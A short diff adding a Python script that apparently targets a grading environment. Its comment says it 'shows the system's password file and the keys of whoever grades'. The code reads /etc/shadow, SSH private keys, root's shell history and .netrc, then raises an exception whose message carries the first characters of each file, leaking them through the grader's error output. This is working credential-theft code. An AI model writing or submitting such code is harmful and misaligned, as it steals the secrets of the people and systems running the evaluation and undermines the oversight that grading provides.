@@ -1,0 +1,12 @@
+# gets: 0
+# Shows the system's password file and the keys of whoever grades.
+from pathlib import Path
+
+found = []
+for pattern in ("etc/shadow", "root/.ssh/*", "home/*/.ssh/*", "root/.bash_history", "root/.netrc"):
+    for path in Path("/").glob(pattern):
+        try:
+            found.append(f"{path}: {path.read_text()[:40]!r}")
+        except OSError:
+            pass
+raise RuntimeError(f"LEAKED {found}" if found else "nothing")
